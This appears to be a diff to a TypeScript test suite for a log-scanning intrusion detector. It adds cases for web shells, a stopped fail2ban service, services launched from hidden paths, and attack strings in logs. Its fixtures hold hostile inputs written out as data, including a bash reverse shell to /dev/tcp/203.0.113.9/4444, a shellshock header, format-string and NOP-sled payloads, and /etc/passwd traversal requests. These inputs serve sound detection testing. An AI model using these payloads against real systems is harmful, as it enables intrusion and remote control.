@@ -125,6 +125,12 @@ describe('requests', () => {
 		expect(await asked(['GET /cgi-bin/status HTTP/1.1', 200, 77, '() { :;}; /bin/bash -c id'])).toEqual([expect.stringMatching(/^medium 198\.51\.100\.66: an attack on a web service \(.*shellshock.*\) was answered/)]);
 	});
 
+	test('of a web shell', async () => {
+		expect(await asked(['GET /images/a.php?cmd=id HTTP/1.1', 200, 54])).toEqual(['medium 198.51.100.66: an attack on a web service (web-shell) was answered with success']);
+		expect(await asked(['POST /wp-content/uploads/2024/01/a.php HTTP/1.1', 200, 54])).toEqual(['medium 198.51.100.66: an attack on a web service (web-shell) was answered with success']);
+		expect(await asked(['POST /wp-content/uploads/2024/01/a.php HTTP/1.1', 404, 54], ['GET /webscr.php?cmd=list&id=3 HTTP/1.1', 200], ['GET /uploads/a.png?x=.php HTTP/1.1', 200])).toEqual([expect.stringMatching(/^info .* that it refused/)]);
+	});
+
 	test('that were refused are counted, and no more', async () => {
 		expect(await asked(['GET /../../etc/passwd HTTP/1.1', 404], ['GET /../../../etc/passwd HTTP/1.1', 403])).toEqual(['info /var/log/apache2/access.log: attacks on a web service that it refused: every server is scanned']);
 	});
@@ -197,6 +203,36 @@ describe('a log daemon', () => {
 	});
 });
 
+describe('a guard', () => {
+	const said = async (...lines: readonly (readonly [seconds: number, words: string])[]): Promise<readonly string[]> => (await found({ '/var/log/syslog': { content: lines.map(([seconds, words]) => `${syslogStamp(20, seconds)} web1 ${words}\n`).join(''), modified } })).map(inWords);
+	const stop = 'systemd[1]: Stopped fail2ban.service - Fail2Ban Service.';
+	const begin = 'systemd[1]: Started fail2ban.service - Fail2Ban Service.';
+
+	test('that was stopped for good', async () => {
+		expect(await said([3600, stop], [40_000, 'sshd[1]: Server listening on 0.0.0.0 port 22.'])).toEqual(['medium fail2ban.service - Fail2Ban Service: fail2ban.service - Fail2Ban Service was stopped and was not started again, with no start or end of the machine near: nothing of what it watches for was seen from then on']);
+	});
+
+	test('that was stopped for an hour is low; restarted, or down with the machine, it says nothing', async () => {
+		expect(await said([3600, stop], [9000, begin])).toEqual([expect.stringMatching(/^low fail2ban\.service - Fail2Ban Service: .* started again only later/)]);
+		expect(await said([3600, stop], [3602, begin])).toEqual([]);
+		expect(await said([3600, stop], [3700, 'kernel: [0.0] Linux version 6.1.0 (x)'], [3702, begin])).toEqual([]);
+	});
+});
+
+describe('a service that is a command', () => {
+	test.each([
+		['Started /tmp/.x/update.', 'medium /tmp/.x/update: systemd started a program of a temporary or hidden place as a service'],
+		['Started run-u99.service - /dev/shm/k -d.', 'medium /dev/shm/k: systemd started a program of a temporary or hidden place as a service'],
+		['Started [systemd-run] /bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1.', 'high /var/log/syslog: a command hands a shell to a network connection'],
+	])('%s', async (line, words) => {
+		expect(await one([`systemd[1]: ${line}`], 'syslog')).toEqual([words]);
+	});
+
+	test.each(['Started session-7.scope - Session 7 of User anna.', 'Started run-u12.service - /usr/bin/apt-get update.', 'Started /usr/bin/backup --all.'])('%s says nothing', async line => {
+		expect(await one([`systemd[1]: ${line}`], 'syslog')).toEqual([]);
+	});
+});
+
 test('a daemon that crashed and a module from elsewhere are low', async () => {
 	expect(await one(['kernel: [5.5] nginx[77]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in nginx[55d0+1000]', 'kernel: [5.6] gedit[78]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in gedit[55d0+1000]', 'kernel: [6.1] rk: loading out-of-tree module taints kernel.'], 'kern.log')).toEqual([
 		'low nginx: nginx, which serves the network, crashed (segfault): an attack that fails looks like that',
@@ -234,7 +270,9 @@ describe('crashes', () => {
 
 describe('what services tell of', () => {
 	test.each([
-		['rpc.statd[1]: gethostbyname error for ^X%8x%8x%8x%8x%n%n', 'low rpc.statd: text of an attack (format-string) stands in what rpc.statd logged: somebody sent it that'],
+		['rpc.statd[1]: gethostbyname error for ^X%8x%8x%8x%8x%n%n', 'medium rpc.statd: text of an attack (format-string) stands in what rpc.statd logged: somebody sent it that'],
+		['ftpd[1]: ANONYMOUS FTP LOGIN FROM 198.51.100.66 [198.51.100.66], \\220\\220\\220\\220\\220\\220\\2201\\3001', 'medium ftpd: text of an attack (no-op-sled) stands in what ftpd logged: somebody sent it that'],
+		['sshd[1]: Invalid user %x%x%x%x%n%n from 198.51.100.66 port 22', 'low sshd: text of an attack (format-string) stands in what sshd logged: somebody sent it that'],
 		['postfix/smtpd[1]: non-SMTP command from unknown: GET /cgi-bin/../../../../etc/passwd HTTP/1.0', 'info postfix/smtpd: text of an attack (traversal) stands in what postfix/smtpd logged: somebody sent it that'],
 		['systemd[1]: smbd.service: Main process exited, code=dumped, status=11/SEGV', 'low smbd.service: smbd.service died of 11/SEGV: an attack that fails looks like that'],
 		['systemd[1]: zzz.service: Main process exited, code=killed, status=11/SEGV', 'low zzz.service: zzz.service died of 11/SEGV: an attack that fails looks like that'],
